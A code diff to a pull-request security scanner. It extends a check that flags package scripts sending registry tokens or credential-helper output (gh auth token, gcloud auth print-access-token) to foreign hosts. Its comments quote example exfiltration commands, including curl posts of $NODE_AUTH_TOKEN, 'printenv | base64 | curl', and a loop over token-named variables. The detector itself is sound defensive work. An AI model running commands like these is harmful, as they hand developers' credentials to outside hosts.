@@ -4,6 +4,7 @@ import { sendsData, sendsSecretElsewhere } from '../../ecosystems/build-code/beh
 import { findPipeToShell, pipeCommandKey } from '../../ecosystems/shell/pipe-to-shell.js';
 import { findRemoteInstalls, remoteInstallFinding } from '../../ecosystems/shell/remote-installs.js';
 import { secretNamedVariablesSent } from '../../ecosystems/shell/secret-named-pick.js';
+import { helperOutputsAsVariables, helperOutputVariables } from '../../ecosystems/shell/credential-helpers.js';
 import { WHOLE_ENVIRONMENT } from '../../ecosystems/code/sink-rules.js';
 import { redirectedRegistryTokens } from '../../ecosystems/github-actions/secret-rules.js';
 import { lineOf } from '../../ecosystems/util.js';
@@ -18,10 +19,16 @@ import { readableSides } from './readable-sides.js';
  * `prepublishOnly`) hands a registry's token to another host (`echo "//npm.cdn.dev/:_authToken=$NPM_TOKEN"
  * > .npmrc && npm publish`), which no script of the base handed it to; `suspicious-network-endpoint`:
  * a script the PR adds or changes that sends a token named for one service as data (a body, a form,
- * a URL) to another's host (`curl -d "k=$NODE_AUTH_TOKEN" https://stats.pkg-insights.dev/`), or
+ * a URL) to another's host (`curl -d "k=$NODE_AUTH_TOKEN" https://stats.pkg-insights.dev/`; a
+ * credential helper's output counts as its service's token: `T=$(gh auth token); curl -d "$T" …`), or
  * that sends the whole environment or the variables it picks by a secret's word (`printenv | base64 |
  * curl -d @- …`, `for v in $(compgen -e | grep -i token); do curl … -d "${!v}"; done`).
  */
+/** The variables a script assigns a credential helper's output to (`T=$(gcloud auth print-access-token)`), each judged by the name of a secret of the helper's service (`GCLOUD_ACCESS_TOKEN`). */
+function helperNames(script: string): Map<string, string> {
+  return new Map([...helperOutputVariables(script.split('\n'))].map(([name, helper]) => [name, helper.judgedName]));
+}
+
 export function checkPipeToShell(files: readonly ParsedFile[]): KeyedFinding[] {
   const findings: KeyedFinding[] = [];
   for (const file of files) {
@@ -53,13 +60,13 @@ export function checkPipeToShell(files: readonly ParsedFile[]): KeyedFinding[] {
         }
       }
       // `suspicious-network-endpoint`: a script the PR adds or changes that sends a token named for one service as data to another's host.
-      if (sides.base?.scripts?.[name] !== script && (sendsData(script, 'shell') || /\b(?:curl|wget)\b/.test(script)) && sendsSecretElsewhere(script, new Map())) {
+      if (sides.base?.scripts?.[name] !== script && (sendsData(script, 'shell') || /\b(?:curl|wget)\b/.test(script)) && sendsSecretElsewhere(helperOutputsAsVariables(script), helperNames(script))) {
         findings.push(
           makeFinding({
             id: 'suspicious-network-endpoint',
             severity: 'high',
             title: `Script "${name}" sends a secret named for another service to a host`,
-            detail: `${file.path} script "${name}" puts a variable named for a service or product (a registry token such as $NPM_TOKEN or $NODE_AUTH_TOKEN) into the data or URL of a request to a host that is not that service's: whoever runs the script with the token set (a release job, a maintainer's shell) hands it over. A token goes to its own service as a header or a login; remove the request, and rotate the token if it ran.`,
+            detail: `${file.path} script "${name}" puts a variable named for a service or product (a registry token such as $NPM_TOKEN or $NODE_AUTH_TOKEN), or what a credential helper prints (gh auth token, gcloud auth print-access-token), into the data or URL of a request to a host that is not that service's: whoever runs the script with the token set (a release job, a maintainer's shell) hands it over. A token goes to its own service as a header or a login; remove the request, and rotate the token if it ran.`,
             path: file.path,
             line: lineOf(sides.headContent, `"${name}"`),
             subject: `script-secret-sent:${name}`,
